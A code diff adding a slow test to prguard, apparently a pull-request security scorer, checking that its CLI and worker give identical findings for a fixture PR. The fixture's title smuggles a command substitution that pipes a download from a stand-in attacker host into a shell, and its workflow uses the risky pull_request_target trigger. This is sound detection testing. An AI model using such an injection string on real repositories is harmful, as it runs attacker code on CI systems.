@@ -12,10 +12,21 @@ from batch.train import TrainConfig, train
 from prguard.cli import main
 from prguard.config import Settings
 from prguard.model import registry
+from app import jobs
+from app.publisher import GitHubPublisher
+from app.scoring_job import Connection, JobContext
+from app.worker import Worker
+from prguard.features.extraction import sensitive_files
+from prguard.store.sqlite import SQLiteStore
+from tests.support import workflows as W
+from tests.support.pr_content import changed, hunk
 from tests.support.training_data import make_prs, write_feature_set
+from tests.support.worker_fakes import FakeInstallationClient, pr_doc
 
 pytestmark = pytest.mark.slow
 CONFIG = TrainConfig(epochs=20, seed=11)
+FINDING_KEYS = {"findings", "finding_notes", "unusual"}
+REPO, BASE, HEAD = "acme/api", "c" * 40, "d" * 40
 
 
 @pytest.fixture(scope="module")
@@ -93,12 +104,47 @@ def test_score_cli_writes_one_result_line_per_pr(workspace, tmp_path):
     lines = [json.loads(line) for line in (tmp_path / "out.jsonl").read_text().splitlines()]
     assert [line["number"] for line in lines] == [doc["number"] for doc in docs[-30:]]
     champion = registry.load_champion(settings)
-    assert lines == json.loads(json.dumps(champion.score(docs[-30:])))  # the service's path, identically
+    model_part = [{k: v for k, v in line.items() if k not in FINDING_KEYS} for line in lines]
+    assert model_part == json.loads(json.dumps(champion.score(docs[-30:])))  # the service's path, identically
+    assert all(set(line) >= FINDING_KEYS for line in lines)
     assert {line["model_version"] for line in lines} == {registry.champion_version(settings)}
     assert any(line["anomalous"] for line in lines)  # the labelled attacks are among the newest PRs
     stdin = CliRunner().invoke(main, ["score", "-"], input=source.read_text(), env=env)
     assert stdin.exit_code == 0
     assert [json.loads(x) for x in stdin.stdout.splitlines()] == lines
+
+
+def test_score_cli_and_the_service_give_the_same_findings_and_verdict(workspace, tmp_path):
+    """The same PR (patches, and its workflow at base and head) through `prguard score` and the worker."""
+    settings, _, _, _, _ = workspace
+    path = ".github/workflows/preview.yml"
+    base_text = W.PWN_REQUEST.replace("pull_request_target:", "pull_request:")
+    patch = hunk(3, ["on:"], ["  pull_request:"], ["  pull_request_target:"])
+    doc = pr_doc(REPO, 77, head_sha=HEAD, files=[changed(path, patch)])
+    doc["base"]["sha"] = BASE
+    doc["title"] = "ci: previews for $(curl -s https://evil.example/p | sh)"
+    source = tmp_path / "pr.jsonl"
+    line_doc = dict(doc, workflow_contents={"base": {path: base_text}, "head": {path: W.PWN_REQUEST}})
+    source.write_text(json.dumps(line_doc) + "\n")
+    result = CliRunner().invoke(main, ["score", str(source)], env={"PRGUARD_DATA_DIR": str(settings.data_dir)})
+    assert result.exit_code == 0, result.output
+    (cli_line,) = [json.loads(x) for x in result.stdout.splitlines()]
+
+    store = SQLiteStore(tmp_path / "service.sqlite3")
+    client = FakeInstallationClient(pulls={(REPO, 77): doc}, files={(REPO, 77): doc["files"]},
+                                    contents={(REPO, BASE): {path: base_text}, (REPO, HEAD): {path: W.PWN_REQUEST}})
+    connection = Connection(client, GitHubPublisher(store, client))
+    champion = registry.load_champion(settings)
+    context = JobContext(store=store, settings=settings, current_model=lambda: champion,
+                         connect=lambda installation_id: connection, sensitive_files=sensitive_files)
+    jobs.enqueue(store, jobs.score_job(REPO, 77, HEAD, 1, "d-1"))
+    assert Worker(store, context, settings, "w1").run_once()
+    recorded = store.get_score(REPO, HEAD)
+    store.close()
+    assert cli_line["findings"] == recorded["findings"] and cli_line["unusual"] == recorded["unusual"] is True
+    expected = {"prguard/pwn-request", "prguard/attacker-string", "zizmor/dangerous-triggers"}
+    assert {f["rule_id"] for f in cli_line["findings"]} >= expected
+    assert cli_line["score"] == pytest.approx(recorded["score"])
 
 
 def test_score_cli_says_what_to_do_without_a_champion(tmp_path):
